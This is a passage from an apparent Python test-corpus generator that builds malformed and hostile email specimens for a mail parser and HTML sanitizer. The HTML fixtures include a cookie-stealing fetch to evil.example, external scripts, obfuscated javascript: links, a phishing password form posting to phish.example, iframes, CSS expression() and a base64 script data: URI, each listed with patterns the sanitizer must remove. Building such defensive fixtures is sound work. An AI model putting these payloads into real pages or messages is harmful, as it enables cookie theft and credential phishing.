        "</head><body>\n<p>Уважаемый клиент!</p>\n<p>Ваш заказ отправлен транспортной компанией.</p>\n"
        "<p>Трек-номер: <b>RA123456789RU</b></p>\n</body></html>\n"
    )
    headers = _envelope(
        "html-only@shop.example",
        _ew("Заказ отправлен", "windows-1251"),
        sender="shop@shop.example",
        extra=[("Content-Type", "text/html; charset=windows-1251"), ("Content-Transfer-Encoding", "quoted-printable")],
    )
    return Specimen(
        name="html_only",
        raw=_message(headers, _qp(html, "cp1251")),
        why="text/html only, windows-1251, quoted-printable: the text body comes from the HTML",
        subject="Заказ отправлен",
        sender="shop@shop.example",
        recipients=1,
        text_contains="Ваш заказ отправлен транспортной компанией.",
        attachments=0,
        message_id="html-only@shop.example",
    )


def _html_meta_charset_conflict() -> Specimen:
    html = (
        '<html><head><meta charset="windows-1251"></head>\n'
        "<body><p>Приглашаем на выставку &laquo;Мебель-2024&raquo; в Экспоцентре.</p></body></html>\n"
    )
    headers = _envelope(
        "meta-conflict@vector.example",
        _ew("Приглашение на выставку", "koi8-r"),
        extra=[("Content-Type", "text/html; charset=koi8-r"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="html_meta_charset_conflict",
        raw=_message(headers, html.encode("koi8-r")),
        why="HTML in KOI8-R as Content-Type says, while its <meta charset> claims windows-1251: the MIME header wins",
        subject="Приглашение на выставку",
        sender=IVAN,
        recipients=1,
        text_contains="Приглашаем на выставку",
        attachments=0,
        message_id="meta-conflict@vector.example",
    )


def _hostile_html(name: str, why: str, html: str, must_not: tuple[str, ...], subject: str) -> Specimen:
    text = "Акция недели: скидка 20% на все диваны.\nПодробности на сайте.\n"
    boundary = f"=_{name}_alt"
    headers = _envelope(
        f"{name}@promo.example",
        _ew(subject),
        sender="promo@promo.example",
        extra=[("Content-Type", f'multipart/alternative; boundary="{boundary}"')],
    )
    return Specimen(
        name=name,
        raw=_message(headers, _alternative(boundary, text, html)),
        why=why,
        subject=subject,
        sender="promo@promo.example",
        recipients=1,
        text_contains="скидка 20% на все диваны",
        attachments=0,
        html_must_not_contain=must_not,
        message_id=f"{name}@promo.example",
    )


def _html_scripts_handlers() -> Specimen:
    html = (
        '<html><body onload="alert(document.cookie)">\n'
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>\n"
        '<SCRIPT type="text/javascript" src="https://evil.example/x.js"></SCRIPT>\n'
        "<p>Акция недели: скидка 20% на все диваны.</p>\n"
        '<img src="x" onerror="alert(1)">\n'
        '<p onclick="alert(2)">Нажмите здесь</p>\n'
        '<a href="javascript:alert(3)">Подробнее</a>\n'
        '<a href="JaVaScRiPt:alert(4)">Каталог</a>\n'
        '<a href="jav&#x09;ascript:alert(5)">Доставка</a>\n'
        '<a href="&#106;avascript:alert(6)">Оплата</a>\n'
        '<a href="vbscript:msgbox(7)">Контакты</a>\n'
        '<svg onload="alert(8)"><circle r="1"/></svg>\n'
        "</body></html>\n"
    )
    return _hostile_html(
        "html_scripts_handlers",
        "HTML: <script>, onload/onerror/onclick, javascript: (mixed case, tab-, entity-obfuscated), vbscript:",
        html,
        ("<script", "onload", "onerror", "onclick", "javascript:", "vbscript:", "alert(", "evil.example"),
        "Акция недели",
    )


def _html_embeds_forms_styles() -> Specimen:
    html = (
        "<html><head>\n"
        '<meta http-equiv="refresh" content="0;url=https://phish.example/">\n'
        '<base href="https://phish.example/">\n'
        '<link rel="stylesheet" href="https://phish.example/a.css">\n'
        "<style>body { background: expression(alert(1)); } p { behavior: url(x.htc); }</style>\n"
        "</head><body>\n"
        "<p>Акция недели: скидка 20% на все диваны.</p>\n"
        '<div style="width: expression(alert(2))">Каталог</div>\n'
        '<iframe src="https://phish.example/frame" width="1" height="1"></iframe>\n'
        '<object data="https://phish.example/x.swf" type="application/x-shockwave-flash"></object>\n'
        '<embed src="https://phish.example/x.swf">\n'
        '<form action="https://phish.example/login" method="post">Пароль от почты: '
        '<input type="password" name="p"><button type="submit">Войти</button></form>\n'
        "</body></html>\n"
    )
    return _hostile_html(
        "html_embeds_forms_styles",
        "HTML: <iframe>, <object>, <embed>, phishing <form>, <style>/style= with expression(), meta refresh, <base>",
        html,
        (
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<input",
            "<style",
            "expression(",
            "<meta",
            "<base",
            "<link",
            "phish.example",
        ),
        "Акция недели!",
    )


def _html_tracking_pixel_data_uri() -> Specimen:
    pixel = base64.b64encode(_png()).decode("ascii")
    payload = base64.b64encode(b"<script>alert(document.domain)</script>").decode("ascii")
    html = (
        "<html><body>\n<p>Акция недели: скидка 20% на все диваны.</p>\n"
        '<img src="https://tracker.example/p.gif?u=manager%40hub.example&amp;c=4521" width="1" height="1" alt="">\n'
        f'<img src="data:image/png;base64,{pixel}" alt="logo">\n'
        f'<a href="data:text/html;base64,{payload}">Открыть каталог</a>\n'
        "</body></html>\n"
    )
    return _hostile_html(
        "html_tracking_pixel_data_uri",
        "remote 1x1 tracking pixel (must not load; plain nh3 keeps it), data: URIs (an image, a text/html link)",
        html,
        ('src="https://tracker.example', "data:text/html"),
        "Акция недели!!",
    )


def _related_cid_images() -> Specimen:
    text = "Добрый день!\nНаш новый логотип: [image001.png]\nПрайс во вложении.\n"
    html = (
        "<html><body><p>Добрый день!</p><p>Наш новый логотип:</p>\n"
        '<img width="120" height="40" src="cid:image001.png@01DA8F2B.5C3E1A40" alt="Логотип">\n'
        '<p>Схема проезда:</p><img src="cid:map@romashka.example">\n'
        "<p>Прайс во вложении.</p></body></html>\n"
    )
    pricelist = "Прайс-лист апрель 2024.pdf"
    logo = _part(
        [
            ("Content-Type", 'image/png; name="image001.png"'),
            ("Content-Description", "image001.png"),
            ("Content-Disposition", 'inline; filename="image001.png"'),
            ("Content-ID", "<image001.png@01DA8F2B.5C3E1A40>"),
            ("Content-Transfer-Encoding", "base64"),
        ],
        _b64(_png(120, 40, (200, 30, 30))),
    )
    scheme = _part(
        [
            ("Content-Type", "image/jpeg"),
            ("Content-ID", "<map@romashka.example>"),
            ("Content-Transfer-Encoding", "base64"),
        ],
        _b64(_jpeg("map")),
    )
    related = _multipart(
        "=_rel",
        [
            _part([("Content-Type", 'multipart/alternative; boundary="=_alt"')], _alternative("=_alt", text, html)),
            logo,
            scheme,
        ],
    )
    body = _multipart(
        "=_mix",
        [
            _part([("Content-Type", 'multipart/related; type="multipart/alternative"; boundary="=_rel"')], related),
            _file_part("application/pdf", _pdf("price"), f"filename*=utf-8''{_pct(pricelist)}"),
        ],
        preamble=PREAMBLE,
    )
    headers = _envelope("related-cid@romashka.example", _ew("Прайс и схема проезда"), extra=[_mixed("=_mix")])
    return Specimen(
        name="related_cid_images",
        raw=_message(headers, body),
        why="mixed[related[alternative[text, html], 2 cid: images], pdf]; plain nh3 drops cid: sources",
        subject="Прайс и схема проезда",
        sender=IVAN,
        recipients=1,
        text_contains="Прайс во вложении.",
        attachments=1,
        attachment_names=(pricelist,),
        inline_images=2,
        message_id="related-cid@romashka.example",
    )


def _related_unreferenced_image() -> Specimen:
    html = (
        '<html><body><p>Фото товара с повреждением прикладываю.</p><img src="cid:sig@romashka.example"></body></html>\n'
    )
    signature = _part(
        [
            ("Content-Type", "image/png"),
            ("Content-ID", "<sig@romashka.example>"),
            ("Content-Transfer-Encoding", "base64"),
        ],
        _b64(_png(60, 20)),
    )
    photo = _part(
        [
            ("Content-Type", 'image/jpeg; name="photo.jpg"'),
            ("Content-Disposition", 'inline; filename="photo.jpg"'),
            ("Content-ID", "<photo@romashka.example>"),
            ("Content-Transfer-Encoding", "base64"),
        ],
        _b64(_jpeg("photo", 2000)),
    )
    body = _multipart("=_rel2", [_text_part(html, subtype="html"), signature, photo])
    headers = _envelope(
        "related-unref@romashka.example",
        _ew("Повреждение при доставке"),
        extra=[("Content-Type", 'multipart/related; boundary="=_rel2"')],
    )
    return Specimen(
        name="related_unreferenced_image",
        raw=_message(headers, body),
        why="multipart/related with a second image no cid: references: it is an attachment; plain nh3 drops cid:",
        subject="Повреждение при доставке",
        sender=IVAN,
        recipients=1,
        text_contains="Фото товара с повреждением прикладываю.",
        attachments=1,
        attachment_names=("photo.jpg",),
        inline_images=1,
        message_id="related-unref@romashka.example",
    )


# --------------------------------------------------------------------------------------------------------------------
# Broken MIME structure and transfer encodings.


def _boundary_never_used() -> Specimen:
    text = "Добрый день!\nВложение забыл, вышлю отдельным письмом.\n"
    headers = _envelope(
        "no-boundary@romashka.example",
        _ew("Без вложения"),
        extra=[
            ("Content-Type", 'multipart/mixed; boundary="----=_NextPart_000_0012_01DA8F2B.5C3E1A40"'),
            ("Content-Transfer-Encoding", "8bit"),
        ],
    )
    return Specimen(
        name="boundary_never_used",
        raw=_message(headers, text.encode()),
        why="multipart/mixed, boundary never occurs, body is UTF-8 text; stdlib: get_content() KeyError",
        subject="Без вложения",
        sender=IVAN,
        recipients=1,
        text_contains="вышлю отдельным письмом",
        attachments=0,
        message_id="no-boundary@romashka.example",
    )


def _closing_boundary_missing() -> Specimen:
    filename = "Договор.docx"
    parts = [
        _text_part("Договор на согласование во вложении.\n"),
        _file_part(
            "application/octet-stream", b"PK\x03\x04" + _noise(3000, "contract"), f"filename*=utf-8''{_pct(filename)}"
        ),
    ]
    headers = _envelope("no-close@romashka.example", _ew("Договор"), extra=[_mixed("b1_cut")])
    return Specimen(
        name="closing_boundary_missing",
        raw=_message(headers, _multipart("b1_cut", parts, preamble=PREAMBLE, close=False)),
        why="the closing --boundary-- is missing (message cut after the last part's base64)",
        subject="Договор",
        sender=IVAN,
        recipients=1,
        text_contains="Договор на согласование во вложении.",
        attachments=1,
        attachment_names=(filename,),
        message_id="no-close@romashka.example",
    )


def _boundary_in_body_text() -> Specimen:
    # Only lines that no reading of RFC 2046 takes for a delimiter: the boundary mid-line, quoted, indented, or cut
    # short.  (A line that starts with the whole boundary and goes on, "--b1_abcdef", is one by RFC 2046's note to
    # implementors and not one for the stdlib: the corpus leaves that ambiguity out.)
    outer, inner = "b1_abc", "b2_xyz"
    text = (
        "Разделитель в этом письме выглядит так: --b1_abc (это не граница, она не с начала строки).\n"
        "> --b1_abc\n"
        "  --b1_abc--\n"
        "--b1_ab и эта строка тоже не граница.\n"
        "Конец текста письма.\n"
    )
    html = "<html><body><p>--b2_xyz тоже не граница.</p><p>Конец текста письма.</p></body></html>\n"
    alternative = _multipart(inner, [_text_part(text), _text_part(html, subtype="html")])
    filename = "boundary.txt"
    attached = _part(
        [
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
            ("Content-Disposition", f'attachment; filename="{filename}"'),
        ],
        " --b1_abc--\n>--b2_xyz--\nвнутри вложения\n".encode(),
    )
    parts = [_part([("Content-Type", f'multipart/alternative; boundary="{inner}"')], alternative), attached]
    headers = _envelope("boundary-text@romashka.example", _ew("Границы"), extra=[_mixed(outer)])
    return Specimen(
        name="boundary_in_body_text",
        raw=_message(headers, _multipart(outer, parts, preamble=PREAMBLE)),
        why="boundary strings in 8bit text and an 8bit attachment: mid-line, quoted, indented, cut short",
        subject="Границы",
        sender=IVAN,
        recipients=1,
        text_contains="--b1_ab и эта строка тоже не граница.",
        attachments=1,
        attachment_names=(filename,),
        message_id="boundary-text@romashka.example",
    )


B64_TEXT = (
    "Уважаемый Иван Петрович!\nНаправляем акт выполненных работ за март.\n"
    "Просим подписать и вернуть один экземпляр. Оригинал отправим почтой России.\n"
)


def _base64_garbage() -> Specimen:
    encoded = base64.b64encode(_crlf(B64_TEXT.encode())).decode("ascii").rstrip("=")
    lines = [encoded[i : i + 60] for i in range(0, len(encoded), 60)]
    lines[0] = lines[0][:20] + " !! " + lines[0][20:]
    lines[1] = lines[1][:7] + "*" + lines[1][7:] + " ."
    lines.insert(2, "~~~~")
    headers = _envelope(
        "b64-garbage@romashka.example",
        _ew("Акт за март"),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "base64")],
    )
    return Specimen(
        name="base64_garbage",
        raw=_message(headers, "\n".join(lines).encode("ascii") + b"\n"),
        why="base64 body with non-alphabet garbage (spaces, '!!', '*', '.', a '~~~~' line) and its '=' padding missing",
        subject="Акт за март",
        sender=IVAN,
        recipients=1,
        text_contains="Направляем акт выполненных работ за март.",
        attachments=0,
        message_id="b64-garbage@romashka.example",
    )


def _base64_truncated() -> Specimen:
    encoded = base64.b64encode(_crlf(B64_TEXT.encode())).decode("ascii")
    cut = encoded[: 4 * (len(encoded) // 8) + 1]  # about half, ending in one dangling character (length = 1 mod 4)
    headers = _envelope(
        "b64-cut@romashka.example",
        _ew("Акт за март (обрезано)"),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "base64")],
    )
    lines = [cut[i : i + 76] for i in range(0, len(cut), 76)]
    return Specimen(
        name="base64_truncated",
        raw=_message(headers, "\n".join(lines).encode("ascii") + b"\n"),
        why="base64 cut mid-character, one dangling base64 char (length 1 mod 4); stdlib: returns the base64 undecoded",
        subject="Акт за март (обрезано)",
        sender=IVAN,
        recipients=1,
        text_contains="Уважаемый Иван Петрович!",
        attachments=0,
        message_id="b64-cut@romashka.example",
    )


def _qp_hex(text: str) -> str:
    """Every non-ASCII byte of the UTF-8 text as =XX, ASCII as is."""
    return "".join(chr(b) if b < 0x80 else f"={b:02X}" for b in text.encode("utf-8"))


def _qp_broken() -> Specimen:
    body = (
        _qp_hex("Привет")
        + "=  \n"  # soft line break followed by transport whitespace (RFC 2045: to be ignored)
        + _qp_hex("ствую вас, коллеги!")
        + "\n"
        + _qp_hex("Счёт оплачен полностью.").lower()  # lower-case hex digits
        + "\n"
        + _qp_hex("Код ошибки ")
        + "=ZZ"  # not an escape: stays literally
        + _qp_hex(" остаётся как есть.")
        + "\n"
        + "="  # a soft line break at the very end, nothing after it
    )
    headers = _envelope(
        "qp-broken@romashka.example",
        _ew("Оплата"),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
    )
    return Specimen(
        name="qp_broken_soft_breaks",
        raw=_message(headers, body.encode("ascii")),
        why="QP: '=' + trailing spaces as soft break, lower-case hex, '=ZZ', lone '=' at end; stdlib keeps '=  '",
        subject="Оплата",
        sender=IVAN,
        recipients=1,
        text_contains="Приветствую вас, коллеги!",
        attachments=0,
        message_id="qp-broken@romashka.example",
    )


def _nul_bytes() -> Specimen:
    text = "Номер заказа:\x00\x00 4512\x00\nОплата прошла успешно.\n\x00"
    headers = _envelope(
        "nul@shop.example",
        _ew("Оплата заказа 4512"),
        extra=[
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
            ("X-Note", "a\x00b"),
        ],
    )
    return Specimen(
        name="nul_bytes",
        raw=_message(headers, text.encode()),
        why="NUL bytes in an 8bit body and in a header (PostgreSQL text refuses them); stdlib keeps them",
        subject="Оплата заказа 4512",
        sender=IVAN,
        recipients=1,
        text_contains="Оплата прошла успешно.",
        attachments=0,
        message_id="nul@shop.example",
    )


def _long_line() -> Specimen:
    marker = "КОНЕЦ ДЛИННОЙ СТРОКИ"
    filler = "Длинная строка без переносов, выгрузка из 1С; " * 1200
    line = filler[: 50_000 - len(marker)] + marker
    headers = _envelope(
        "long-line@romashka.example",
        _ew("Выгрузка"),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="long_line_50k",
        raw=_message(headers, ("Начало.\n" + line + "\nКонец.\n").encode()),
        why="one body line of 50,000 characters (about 95 KB of UTF-8) without a break; RFC 5322 allows 998 bytes",
        subject="Выгрузка",
        sender=IVAN,
        recipients=1,
        text_contains=marker,
        attachments=0,
        message_id="long-line@romashka.example",
    )


# --------------------------------------------------------------------------------------------------------------------
# Oversized headers, addresses, ids and dates.


def _plain(
    name: str,
    subject: str,
    text: str,
    *,
    message_id: str | None = "",
    sender: str | bytes | None = FROM_IVAN,
    to: str | bytes | None = MANAGER,
    cc: str | bytes | None = None,
    date: str | bytes | None = DATE,
) -> bytes:
    """A simple UTF-8 text/plain message; the Message-ID is ``name``@romashka.example unless given (None: none)."""
    headers = _envelope(
        f"{name}@romashka.example" if message_id == "" else message_id,
        _ew(subject),
        sender=sender,
        to=to,
        cc=cc,
        date=date,
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
    )
    return _message(headers, text.encode())


def _huge_x_junk() -> Specimen:
    junk = _noise(51_200, "junk").hex()  # 102,400 hex characters on one physical line
    raw = _plain("x-junk", "Большой заголовок", "Текст после огромного заголовка.\n")
    head, _, body = raw.partition(b"\r\n\r\n")
    return Specimen(
        name="huge_x_junk_header",
        raw=head + b"\r\nX-Junk: " + junk.encode("ascii") + b"\r\n\r\n" + body,
        why="one X-Junk header of 100 KiB on a single unfolded line, after the usual ones",
        subject="Большой заголовок",
        sender=IVAN,
        recipients=1,
        text_contains="Текст после огромного заголовка.",
        attachments=0,
        message_id="x-junk@romashka.example",
    )


def _received_2000() -> Specimen:
    hops = "".join(
        f"Received: from relay{i + 1}.example (relay{i + 1}.example [198.51.100.{i % 250 + 1}])\r\n"
        f"\tby relay{i}.example with ESMTP id {i:08X}; Mon, 01 Apr 2024 10:{i // 60 % 60:02d}:{i % 60:02d} +0300\r\n"
        for i in range(2000)
    )
    raw = _plain("received-2000", "Петля пересылки", "Это письмо ходило по кругу.\n")
    return Specimen(
        name="received_2000",
        raw=hops.encode("ascii") + raw,
        why="2000 folded Received: headers (about 300 KB of header, a forwarding loop) before the real ones",
        subject="Петля пересылки",
        sender=IVAN,
        recipients=1,
        text_contains="Это письмо ходило по кругу.",
        attachments=0,
        message_id="received-2000@romashka.example",
    )


def _recipients_500() -> Specimen:
    to = [
        f"{_ew(f'Клиент {i:03d}', 'windows-1251')} <client{i:03d}@romashka.example>"
        if i % 10 == 0
        else f"client{i:03d}@romashka.example"
        for i in range(300)
    ]
    cc = [f'"Partner {i:03d}" <partner{i:03d}@vector.example>' for i in range(200)]
    cc += [f"CLIENT{i:03d}@ROMASHKA.EXAMPLE" for i in range(1, 6)]  # the same five as in To, in capitals
    raw = _plain("recipients-500", "Рассылка", "Уважаемые партнёры!\n", to=",\n ".join(to), cc=",\n\t".join(cc))
    return Specimen(
        name="recipients_500",
        raw=raw,
        why="300 To + 205 Cc addresses on folded lines, some with cp1251 encoded names, 5 repeated in capitals",
        subject="Рассылка",
        sender=IVAN,
        recipients=500,
        text_contains="Уважаемые партнёры!",
        attachments=0,
        message_id="recipients-500@romashka.example",
    )


def _undisclosed_recipients() -> Specimen:
    raw = _plain("undisclosed", "Новости", "Наши новости за апрель.\n", to="undisclosed-recipients:;")
    return Specimen(
        name="undisclosed_recipients",
        raw=raw,
        why="To: undisclosed-recipients:; (an empty group; the hub got it by Bcc) and no Cc",
        subject="Новости",
        sender=IVAN,
        recipients=0,
        text_contains="Наши новости за апрель.",
        attachments=0,
        message_id="undisclosed@romashka.example",
    )


def _from_cp1251_quoted_comma() -> Specimen:
    sender = f"{_ew('Петров, Иван', 'windows-1251')} <Ivan.Petrov@Romashka.example>"
    to = (
        '"Sidorova, Anna" <Anna.Sidorova@romashka.example>, '
        f"{_ew('Отдел продаж, Москва', 'windows-1251', enc='Q')} <sales@hub.example>"
    )
    cc = f'"{_ew("Козлов, Пётр", "windows-1251")}" <p.kozlov@vector.example>'
    return Specimen(
        name="from_cp1251_quoted_comma",
        raw=_plain("comma", "Запятые в именах", "Проверка адресов.\n", sender=sender, to=to, cc=cc),
        why="display names with commas: cp1251 B and Q words, a quoted ASCII name, an encoded word inside quotes",
        subject="Запятые в именах",
        sender=IVAN,
        recipients=3,
        text_contains="Проверка адресов.",
        attachments=0,
        message_id="comma@romashka.example",
    )


def _from_addr_with_comment() -> Specimen:
    sender = f"Ivan.Petrov@Romashka.example ({_ew('Иван Петров', 'koi8-r')})"
    return Specimen(
        name="from_addr_with_comment",
        raw=_plain("from-comment", "Старый формат", "Адрес с комментарием.\n", sender=sender),
        why="old-style From: addr-spec followed by a (comment) that holds a KOI8-R encoded word, no angle brackets",
        subject="Старый формат",
        sender=IVAN,
        recipients=1,
        text_contains="Адрес с комментарием.",
        attachments=0,
        message_id="from-comment@romashka.example",
    )


def _from_missing() -> Specimen:
    return Specimen(
        name="from_missing",
        raw=_plain("no-from", "Без отправителя", "Письмо без поля From.\n", sender=None),
        why="no From header at all (only Return-Path): the sender is unknown, the message is still logged",
        subject="Без отправителя",
        sender=None,
        recipients=1,
        text_contains="Письмо без поля From.",
        attachments=0,
        message_id="no-from@romashka.example",
    )


def _no_message_id() -> Specimen:
    return Specimen(
        name="no_message_id",
        raw=_plain("unused", "Без идентификатора", "Письмо без Message-ID.\n", message_id=None),
        why="no Message-ID: the parser must derive a stable key of its own (e.g. a hash of the raw bytes)",
        subject="Без идентификатора",
        sender=IVAN,
        recipients=1,
        text_contains="Письмо без Message-ID.",
        attachments=0,
    )


def _duplicate_message_id() -> Specimen:
    raw = _plain("first-id", "Два идентификатора", "Два заголовка Message-ID.\n")
    head, _, body = raw.partition(b"\r\n\r\n")
    return Specimen(
        name="duplicate_message_id",
        raw=head + b"\r\nMessage-ID: <second-id@relay.example>\r\n\r\n" + body,
        why="two Message-ID headers (a relay added its own): the first one counts",
        subject="Два идентификатора",
        sender=IVAN,
        recipients=1,
        text_contains="Два заголовка Message-ID.",
        attachments=0,
        message_id="first-id@romashka.example",
    )


def _message_id_no_brackets() -> Specimen:
    raw = _plain("unused", "Идентификатор без скобок", "Message-ID без угловых скобок.\n", message_id=None)
    head, _, body = raw.partition(b"\r\n\r\n")
    return Specimen(
        name="message_id_no_brackets",
        raw=head + b"\r\nMessage-ID: 1712000000.4521.bare@mail.romashka.example\r\n\r\n" + body,
        why="Message-ID without angle brackets (some 1C and PHP mailers); stdlib: right str(), InvalidHeaderDefect",
        subject="Идентификатор без скобок",
        sender=IVAN,
        recipients=1,
        text_contains="Message-ID без угловых скобок.",
        attachments=0,
        message_id="1712000000.4521.bare@mail.romashka.example",
    )


def _in_reply_to_references() -> Specimen:
    parent = "CAH7x9Q=abc+123@mail.gmail.com"
    raw = _plain("reply-refs", "Re: Re: Поставка", "Согласен с условиями.\n")
    head, _, body = raw.partition(b"\r\n\r\n")
    extra = (
        f'In-Reply-To: <{parent}>\r\n ({_ew("Иван Петров")} message of "Mon, 01 Apr 2024 10:00:00 +0300")\r\n'
        "References: <first.1@romashka.example> (first)\r\n"
        " <second.2@vector.example>\r\n"
        f"\t<{parent}> (Ivan's reply) third.3@bare.example"
    )
    return Specimen(
        name="in_reply_to_references_comments",
        raw=head + b"\r\n" + extra.encode("ascii") + b"\r\n\r\n" + body,
        why="In-Reply-To + folded (comment) with an encoded word; References: comments, a bare id; stdlib keeps them",
        subject="Re: Re: Поставка",
        sender=IVAN,
        recipients=1,
        text_contains="Согласен с условиями.",
        attachments=0,
        message_id="reply-refs@romashka.example",
        in_reply_to=parent,
    )


def _date_missing() -> Specimen:
    return Specimen(
        name="date_missing",
        raw=_plain("date-missing", "Без даты", "Письмо без даты.\n", date=None),
        why="no Date header: the parser falls back to the time of receipt (see DATES)",
        subject="Без даты",
        sender=IVAN,
        recipients=1,
        text_contains="Письмо без даты.",
        attachments=0,
        message_id="date-missing@romashka.example",
    )


def _date_unparseable() -> Specimen:
    return Specimen(
        name="date_unparseable",
        raw=_plain("date-bad", "Плохая дата", "Дата не разбирается.\n", date="2024-13-45 99:99:99 GMT+3"),
        why="Date: 2024-13-45 99:99:99 GMT+3, unusable (see DATES); stdlib: datetime None plus a defect, no raise",
        subject="Плохая дата",
        sender=IVAN,
        recipients=1,
        text_contains="Дата не разбирается.",
        attachments=0,
        message_id="date-bad@romashka.example",
    )


def _date_russian_months() -> Specimen:
    date = "Пн, 01 апр 2024 10:15:00 +0300".encode("cp1251")
    return Specimen(
        name="date_russian_months",
        raw=_plain("date-ru", "Русская дата", "Дата по-русски.\n", date=date),
        why="Date in a Russian locale, raw cp1251: 'Пн, 01 апр 2024 10:15:00 +0300' (DATES); stdlib: datetime None",
        subject="Русская дата",
        sender=IVAN,
        recipients=1,
        text_contains="Дата по-русски.",
        attachments=0,
        message_id="date-ru@romashka.example",
    )


# --------------------------------------------------------------------------------------------------------------------
# Nested messages, calendar, bounces, garbage.


def _nested_rfc822() -> Specimen:
    original_pdf = "Счёт 77.pdf"
    original = _message(
        _envelope(
            "orig-77@vector.example",
            _ew("Счёт 77"),
            sender=f"{_ew('Анна Сидорова')} <anna.sidorova@vector.example>",
            to=IVAN,
            extra=[_mixed("=_inner2")],
        ),
        _multipart(
            "=_inner2",
            [
                _text_part("Высылаю счёт, оригинал почтой.\n", "windows-1251"),
                _file_part("application/pdf", _pdf("inv77"), f"filename*=utf-8''{_pct(original_pdf)}"),
            ],
        ),
    )
    middle = _message(
        _envelope(
            "fwd-1@romashka.example",
            _ew("Fwd: Счёт 77"),
            to="p.kozlov@vector.example",
            extra=[_mixed("=_inner1")],
        ),
        _multipart(
            "=_inner1",
            [
                _text_part("Пётр, посмотри счёт ниже.\n", "koi8-r", "quoted-printable"),
                _part(
                    [
                        ("Content-Type", "message/rfc822"),
                        ("Content-Disposition", 'attachment; filename="Schet 77.eml"'),
                    ],
                    original,
                ),
            ],
        ),
    )
    outer_name = "Пересылка счёта.eml"
    body = _multipart(
        "=_outer",
        [
            _text_part("Пересылаю всю цепочку по счёту 77.\n"),
            _part(
                [
                    ("Content-Type", "message/rfc822"),
                    ("Content-Transfer-Encoding", "8bit"),
                    ("Content-Disposition", f"attachment; filename*=utf-8''{_pct(outer_name)}"),
                ],
                middle,
            ),
        ],
        preamble=PREAMBLE,
    )
    headers = _envelope(
        "fwd-2@vector.example",
        _ew("Fwd: Fwd: Счёт 77"),
        sender="Petr Kozlov <P.Kozlov@Vector.example>",
        extra=[_mixed("=_outer")],
    )
    return Specimen(
        name="nested_rfc822_forward",
        raw=_message(headers, body),
        why="message/rfc822 inside message/rfc822 (8bit cp1251 and KOI8-R QP inside), the innermost has a PDF",
        subject="Fwd: Fwd: Счёт 77",
        sender="p.kozlov@vector.example",
        recipients=1,
        text_contains="Пересылаю всю цепочку по счёту 77.",
        attachments=1,
        attachment_names=(outer_name,),
        message_id="fwd-2@vector.example",
    )


def _calendar_invite() -> Specimen:
    summary = "Встреча по договору поставки"
    ics = (
        "BEGIN:VCALENDAR\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\nVERSION:2.0\nMETHOD:REQUEST\n"
        "BEGIN:VEVENT\n"
        'ORGANIZER;CN="Иван Петров":mailto:ivan.petrov@romashka.example\n'
        "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:manager@hub.example\n"
        "DTSTART;TZID=Europe/Moscow:20240405T110000\nDTEND;TZID=Europe/Moscow:20240405T120000\n"
        f"SUMMARY;LANGUAGE=ru-RU:{summary}\nLOCATION:Москва\\, ул. Ленина\\, д. 1\n"
        "UID:040000008200E00074C5B7101A82E00800000000A0B1C2D3E4F5\nDTSTAMP:20240401T071500Z\nSEQUENCE:0\n"
        "END:VEVENT\nEND:VCALENDAR\n"
    )
    text = f"{summary}\nКогда: пятница, 5 апреля 2024 г., 11:00-12:00 (Москва)\nГде: Москва, ул. Ленина, д. 1\n"
    html = f"<html><body><p><b>{summary}</b></p><p>Когда: пятница, 5 апреля 2024 г., 11:00-12:00</p></body></html>\n"
    calendar = _part(
        [
            ("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST'),
            ("Content-Transfer-Encoding", "base64"),
        ],
        _b64(_crlf(ics.encode())),
    )
    alternative = _multipart(
        "=_cal_alt",
        [_text_part(text, cte="quoted-printable"), _text_part(html, cte="quoted-printable", subtype="html"), calendar],
    )
    body = _multipart(
        "=_cal_mix",
        [
            _part([("Content-Type", 'multipart/alternative; boundary="=_cal_alt"')], alternative),
            _file_part('application/ics; name="invite.ics"', _crlf(ics.encode()), 'filename="invite.ics"'),
        ],
        preamble=PREAMBLE,
    )
    headers = _envelope("cal-1@romashka.example", _ew(summary), extra=[_mixed("=_cal_mix")])
    return Specimen(
        name="calendar_invite",
        raw=_message(headers, body),
        why="Outlook invitation: alternative[text, html, text/calendar method=REQUEST] plus invite.ics attached",
        subject=summary,
        sender=IVAN,
        recipients=1,
        text_contains=summary,
        attachments=1,
        attachment_names=("invite.ics",),
        message_id="cal-1@romashka.example",
    )


def _dsn_bounce() -> Specimen:
    original = _message(
        _envelope(
            "orig-bounce@hub.example",
            _ew("Коммерческое предложение"),
            sender=f"{_ew('Менеджер')} <manager@hub.example>",
            to="nobody@romashka.example",
            extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
        ),
        "Добрый день! Предлагаем сотрудничество.\n".encode(),
    )
    human = (
        "Это письмо создано автоматически сервером mx.hub.example.\n\n"
        "Ваше сообщение не было доставлено следующим получателям:\n\n"
        "<nobody@romashka.example>: host mx.romashka.example[203.0.113.10] said:\n"
        "    550 5.1.1 <nobody@romashka.example>: Recipient address rejected: User unknown\n"
    )
    status = (
        "Reporting-MTA: dns; mx.hub.example\nX-Postfix-Queue-ID: 4V7Xk12abcz3\n"
        "Arrival-Date: Mon,  1 Apr 2024 10:15:00 +0300 (MSK)\n\n"
        "Final-Recipient: rfc822; nobody@romashka.example\nOriginal-Recipient: rfc822;nobody@romashka.example\n"
        "Action: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.romashka.example\n"
        "Diagnostic-Code: smtp; 550 5.1.1 <nobody@romashka.example>: Recipient address\n"
        "    rejected: User unknown\n"
    )
    body = _multipart(
        "=_dsn",
        [
            _text_part(human),
            _part(
